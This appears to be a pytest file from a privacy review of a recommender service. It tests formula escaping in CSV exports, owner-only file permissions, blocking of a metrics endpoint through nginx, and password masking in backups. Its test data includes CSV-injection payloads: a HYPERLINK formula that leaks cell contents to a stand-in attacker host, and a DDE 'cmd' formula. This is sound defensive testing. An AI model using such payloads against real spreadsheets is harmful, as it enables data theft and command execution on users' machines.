"""Privacy review of 2026-12-08: what the product writes about people.

- A table the CLI writes as CSV/TSV (``score``, ``allocate``, their crisis lists) holds the
  program's raw person ids: an id such as ``=HYPERLINK(...)`` ran as a formula in the
  spreadsheet that opened the file (CSV injection). It is written behind an apostrophe now.
- Those tables and ``audit export --out`` files (person ids or hashes, scores, crisis flags) were
  left readable by every user of the machine (mode 0644 under the usual umask 022) while the
  audit store they come from is its owner's alone. They are owner-only now.
"""

from __future__ import annotations

import csv
import gzip
import http.server
import os
import shutil
import ssl
import stat
import tempfile
import threading
from datetime import datetime, timezone
from pathlib import Path

import httpx
import pandas as pd
import pytest

from recommender.cli import main
from recommender.cohort import read_cohort, write_cohort
from recommender.service import AuditLog
from service_fixtures import free_port, service_home  # noqa: F401  (fixture)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&B2,"open")',
    "+1-202-555-0101",
    "-2+3",
    "@SUM(1+1)",
]


def _scored(ids) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "person_id": ids,
            "recommended": ["coaching"] * len(ids),
            "effect_coaching": [-1.5] * len(ids),
            "ee": [31] * len(ids),
        }
    )


@pytest.fixture
def umask_022():
    previous = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(previous)


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.mark.parametrize("name", ["scored.csv", "scored.tsv", "scored.csv.gz"])
def test_a_text_cell_a_spreadsheet_would_run_is_written_behind_an_apostrophe(tmp_path, name):
    path = write_cohort(_scored([*FORMULAS, "p-000123"]), tmp_path / name)
    opener = gzip.open if name.endswith(".gz") else open
    with opener(path, "rt", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter="\t" if ".tsv" in name else ","))
    cells = [row["person_id"] for row in rows]
    assert cells == [f"'{f}" for f in FORMULAS] + ["p-000123"]
    # Numbers are numbers, not formulas: a negative effect stays as it was.
    assert {row["effect_coaching"] for row in rows} == {"-1.5"}
    # A category column (as the scored table's arms may be) is made safe as well.
    categories = _scored(["p-1", "p-2"]).assign(
        recommended=pd.Categorical(["=cmd|' /C calc'!A0", "coaching"])
    )
    again = read_cohort(write_cohort(categories, tmp_path / f"cat-{name}"))
    assert list(again["recommended"]) == ["'=cmd|' /C calc'!A0", "coaching"]


def test_parquet_keeps_the_ids_as_they_are(tmp_path):
    path = write_cohort(_scored([*FORMULAS, "p-1"]), tmp_path / "scored.parquet")
    assert list(pd.read_parquet(path)["person_id"]) == [*FORMULAS, "p-1"]


@pytest.mark.parametrize("name", ["plan.csv", "plan.parquet", "plan.csv.gz"])
def test_a_table_of_people_is_readable_by_its_owner_only(tmp_path, umask_022, name):
    out = tmp_path / name
    out.write_text("an earlier file, readable by all\n")
    out.chmod(0o644)
    write_cohort(_scored(["p-1", "p-2"]), out)
    assert _mode(out) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == [name]  # no temporary left


def _one_answer(home) -> None:
    AuditLog(f"sqlite:///{home / 'audit.db'}", salt="s" * 16).append(
        [
            {
                "request_id": "r1",
                "model_version": "2",
                "caller_role": "program",
                "person_id": "p-1",
                "safety_level": "routine",
                "recommended": "coaching",
                "ranking_meaningful": True,
                "effects": {"coaching": [-3.0, -5.0, -1.0]},
                "logged_at": datetime.now(timezone.utc),
            }
        ]
    )


@pytest.mark.parametrize("table", ["recommendations", "outcomes", "erasures"])
@pytest.mark.parametrize("name", ["audit.csv", "audit.jsonl"])
def test_an_audit_export_file_is_readable_by_its_owner_only(
    service_home, tmp_path, umask_022, capsys, table, name
):
    _one_answer(service_home)
    out = tmp_path / "exports" / name
    out.parent.mkdir()
    out.write_text("")
    out.chmod(0o644)
    assert main(["audit", "export", "--table", table, "--out", str(out)]) == 0
    assert _mode(out) == 0o600
    if table == "recommendations":
        assert "p-1" not in out.read_text() != ""  # the answer, by its hash


# -- the shipped nginx example and the open /metrics ---------------------------------------------
# /metrics needs no key (Prometheus scrapes it), and its `recommender_crisis_answers_total` rises
# as each crisis answer is given: through the example proxy as shipped, anyone on the network
# could watch it and learn when a colleague was flagged at crisis risk.


class _Upstream(http.server.BaseHTTPRequestHandler):
    """A stand-in service: 200 and the path it was asked for, for every GET."""

    def do_GET(self):  # noqa: N802 - the name http.server calls
        body = f"upstream {self.path}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):  # keep the test's output quiet
        pass


@pytest.fixture(scope="module")
def example_proxy():
    """The shipped nginx example (as tests/test_proxy_nginx_dec06b.py renders it) in front of a
    stand-in service; yields ``(proxy URL, TLS context)``."""
    if shutil.which("nginx") is None:
        pytest.skip("nginx is not installed (`make system-test-deps` installs it)")
    from test_proxy_nginx_dec06b import _nginx, make_certificate

    upstream = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), _Upstream)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    # nginx's workers run as `nobody` when started by root: its folder must be readable.
    folder = Path(tempfile.mkdtemp(prefix="nginx-privacy-"))
    folder.chmod(0o755)
    try:
        make_certificate(folder)
        fallback = folder / "fallback"
        fallback.mkdir(mode=0o755)
        address = f"127.0.0.1:{upstream.server_address[1]}"
        with _nginx(folder, address, fallback) as port:
            yield (
                f"https://127.0.0.1:{port}",
                ssl.create_default_context(cafile=str(folder / "cert.pem")),
            )
    finally:
        upstream.shutdown()
        upstream.server_close()
        shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.parametrize(
    "path", [b"/metrics", b"/metrics/", b"//metrics", b"/%6detrics", b"/metrics?name[]=x"]
)
def test_the_example_proxy_keeps_metrics_from_callers(example_proxy, path):
    base, tls = example_proxy
    with httpx.Client(base_url=base, verify=tls, timeout=30) as client:
        refused = client.get(httpx.URL(base).copy_with(raw_path=path))
        assert refused.status_code == 403, refused.text
        assert "upstream" not in refused.text
        # what a caller may read still passes
        assert client.get("/livez").text == "upstream /livez"


# -- the MLflow tracking URI's password ---------------------------------------------------------
# The service's log shows a store's address without its password; `backup` printed the tracking
# URI as given (https://user:password@host) and wrote it into the backup's manifest.json, a file
# that travels with every copy of the backup.

TRACKING = "https://ops:hunter2-tracking-secret@127.0.0.1:3149"


def test_a_backup_shows_and_keeps_the_tracking_uri_without_its_password(
    service_home, tmp_path, monkeypatch, capsys
):
    _one_answer(service_home)
    monkeypatch.setenv("MLFLOW_TRACKING_URI", TRACKING)
    folder = tmp_path / "backup"
    assert main(["backup", "--to", str(folder)]) == 0
    said = capsys.readouterr()
    assert "127.0.0.1:3149" in said.out + said.err  # the note names the registry...
    assert "hunter2" not in said.out + said.err  # ...without its password
    manifest = (folder / "manifest.json").read_text()
    assert "https://ops:***@127.0.0.1:3149" in manifest
    assert "hunter2" not in manifest


def test_a_table_batch_score_publishes_is_readable_by_its_owner_only(tmp_path, umask_022):
    # What Spark leaves under the umask (folders 0755, files 0644), moved into place.
    from pipelines._batch_output import _publish

    staging = tmp_path / ".scored.parquet.writing-0123456789ab"
    (staging / "nested").mkdir(parents=True)
    for name in ("part-00000.snappy.parquet", "_SUCCESS", "nested/part-00001.snappy.parquet"):
        (staging / name).write_bytes(b"PAR1")
    out = tmp_path / "scored.parquet"
    _publish(staging, out)
    assert _mode(out) == _mode(out / "nested") == 0o700
    assert {_mode(p) for p in out.rglob("*") if p.is_file()} == {0o600}


# -- an audit salt in a serve.yaml other users can read ------------------------------------------


def _serve_check(config, monkeypatch, capsys) -> str:
    monkeypatch.delenv("RECOMMENDER_AUDIT_SALT", raising=False)
    main(["serve", "--config", str(config), "--check", "--port", str(free_port())])
    return capsys.readouterr().err


def test_serve_says_when_the_salt_sits_in_a_file_others_may_read(
    service_home, tmp_path, monkeypatch, capsys
):
    shipped = Path(__file__).resolve().parents[1] / "configs" / "serve.yaml"
    salted = shipped.read_text().replace(
        "  salt: null", '  salt: "a-salt-of-32-characters-or-so-0123"'
    )
    config = tmp_path / "serve.yaml"
    config.write_text(salted)
    config.chmod(0o644)
    said = _serve_check(config, monkeypatch, capsys)
    assert f"the audit salt is in {config}, which other users" in said
    assert "a-salt-of-32" not in said  # never the salt itself
    config.chmod(0o600)
    assert "the audit salt is in" not in _serve_check(config, monkeypatch, capsys)
    # given by the environment, the file's salt is not the one used: nothing to say
    config.chmod(0o644)
    monkeypatch.setenv("RECOMMENDER_AUDIT_SALT", "s" * 32)
    main(["serve", "--config", str(config), "--check", "--port", str(free_port())])
    assert "the audit salt is in" not in capsys.readouterr().err
